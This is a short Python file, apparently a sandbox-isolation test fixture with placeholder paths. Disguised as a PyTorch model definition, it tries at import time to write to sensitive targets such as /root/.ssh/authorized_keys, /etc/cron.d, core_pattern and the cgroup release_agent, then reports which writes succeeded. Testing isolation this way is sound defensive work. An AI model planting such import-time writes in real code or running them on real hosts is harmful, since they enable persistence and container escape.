import os

import torch
from torch import nn

written = []
TARGETS = (
    "@SECRET_FILE@",
    "@HOST@/new.txt",
    "/etc/cron.d/owned",
    "/root/.ssh/authorized_keys",
    "/proc/1/root@SECRET_FILE@",
    "/proc/1/cwd/owned",
    "/proc/sys/kernel/core_pattern",
    "/sys/fs/cgroup/release_agent",
)
for target in TARGETS:
    try:
        with open(target, "w") as file:
            file.write("owned")
        written.append(target)
    except OSError:
        pass
print("written:", written)


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.last = nn.Linear(3, 4)

    def forward(self, x):
        return self.last(x.mean((2, 3)))
